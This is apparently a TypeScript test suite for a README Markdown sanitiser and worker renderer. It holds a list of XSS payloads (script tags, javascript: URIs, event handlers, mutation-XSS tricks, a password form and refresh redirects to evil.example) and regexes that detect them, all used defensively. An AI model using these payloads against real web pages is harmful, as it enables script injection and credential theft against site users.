import { expect } from 'chai';
import { README_BYTES_MAX } from '../../plugins-sdk/contract/index.ts';
import { plainHtml } from './plain-html.ts';
import { renderInWorker } from './render-in-worker.ts';
import { renderMarkdown } from './render-markdown.ts';

const IMAGES = { 'listing/one.png': '/v1/catalogue/acme/hello/assets/aa' };
const render = (text: string) => renderMarkdown(text, IMAGES);

describe('renderMarkdown', () => {
  it('renders what READMEs are made of', () => {
    const html = render(
      '# Title\n\nA **bold** `word` and [a link](https://example.com "t").\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```js\n1 < 2\n```\n\n<details><summary>More</summary>text</details>\n',
    );
    expect(html).to.include('<h1>Title</h1>');
    expect(html).to.include(
      '<a href="https://example.com" rel="nofollow noopener noreferrer ugc" title="t">a link</a>',
    );
    expect(html).to.include('<td align="right">2</td>');
    expect(html).to.include('<code class="language-js">1 &lt; 2');
    expect(html).to.include('<details><summary>More</summary>text</details>');
  });

  it('shows pictures of the archive, and no others', () => {
    expect(render('![One](listing/one.png)')).to.include(
      '<img src="/v1/catalogue/acme/hello/assets/aa" alt="One" loading="lazy" />',
    );
    expect(
      render('<img src="./listing/one.png" width="40" height="9e9" onerror="alert(1)" style="position:fixed">'),
    ).to.include('<img src="/v1/catalogue/acme/hello/assets/aa" alt="" loading="lazy" width="40" />');
    for (const src of [
      'https://evil.example/p.png',
      '//evil.example/p.png',
      'data:image/png;base64,AA',
      'other.png',
      '__proto__',
      '%',
    ])
      expect(render(`<img src="${src}"> ![x](${src})`), src).not.to.include('<img');
  });

  const attacks = [
    '<script>alert(1)</script>',
    '<ScRiPt src="https://evil.example/x.js"></ScRiPt>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:msgbox)',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<style>body{background:url(https://evil.example)}</style>',
    '<div style="background:url(https://evil.example)" onclick="alert(1)" id="login" name="login" class="admin">x</div>',
    '<svg><script>alert(1)</script></svg><svg onload=alert(1)>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="x">',
    '<video src="x" onerror="alert(1)"></video><audio autoplay></audio>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<a href="https://ok.example" target="_blank" ping="https://evil.example" onmouseover="alert(1)">x</a>',
    '<button formaction="javascript:alert(1)">x</button><details ontoggle="alert(1)" open>x</details>',
    '```"><script>alert(1)</script>\nx\n```',
    '[x](https://ok.example "\\"onmouseover=alert(1)")',
  ];
  it('lets nothing through that runs, loads, frames, poses or sends', () => {
    for (const attack of attacks) {
      for (const text of [attack, `# T\n\n${attack}\n\ntext`, `> - ${attack}`, `<div>${attack}`]) {
        // Only what is within a tag counts: text may say what it likes.
        const tags = (render(text).match(/<[^>]*>/g) ?? []).map((tag) =>
          tag.replace(/title="[^"]*"/, '').toLowerCase(),
        );
        for (const tag of tags) {
          expect(tag, attack).to.match(/^<\/?(?:h1|p|pre|code|div|a|ul|li|blockquote|br|details|table|tbody|tr|td)\b/);
          expect(tag, attack).not.to.match(
            /script:|data:|evil\.example\/x\.js|\son[a-z]+\s*=|style=|\bid=|name=|target=|ping=|srcdoc|action=/,
          );
        }
      }
    }
  });

  it('gives every link to elsewhere no weight and no opener, and no link to within', () => {
    expect(
      render('https://example.com <a href="http://a.example" rel="opener">x</a>').match(
        /rel="nofollow noopener noreferrer ugc"/g,
      ),
    ).to.have.length(2);
    for (const href of ['#top', 'docs/more.md', '/v1/tokens', '//evil.example', '?x'])
      expect(render(`[x](${href})`), href).to.include('<a>x</a>');
  });
});

describe('renderInWorker', () => {
  it('renders several texts, and leaves absent ones absent', async () => {
    expect(await renderInWorker(['*a*', null], IMAGES)).to.deep.equal(['<p><em>a</em></p>\n', null]);
    expect(await renderInWorker([null, null], IMAGES)).to.deep.equal([null, null]);
  });

  it('shows a text as it was written where it takes too long or too much room', async () => {
    const text = '# <script>alert("1")</script>\n'.repeat(2_000);
    const plain = [plainHtml(text)];
    expect(plain[0]).not.to.include('<script');
    expect(await renderInWorker([text], IMAGES, { timeMsMax: 1 })).to.deep.equal(plain);
    expect(await renderInWorker([text], IMAGES, { htmlCharsMax: 100 })).to.deep.equal(plain);
  });

  it('comes to an end with the largest README that is made to be slow, and with script in it', async () => {
    const worst = ['[', '<', '*a_', '> ', '[a](', '<div>'];
    for (const part of worst) {
      const text = `${part.repeat(Math.floor(README_BYTES_MAX / part.length) - 40)}<script>alert(1)</script>`;
      const [html] = await renderInWorker([text], IMAGES);
      expect(html, part).to.be.a('string');
      expect(html, part).not.to.match(/<script/i);
    }
  });
});
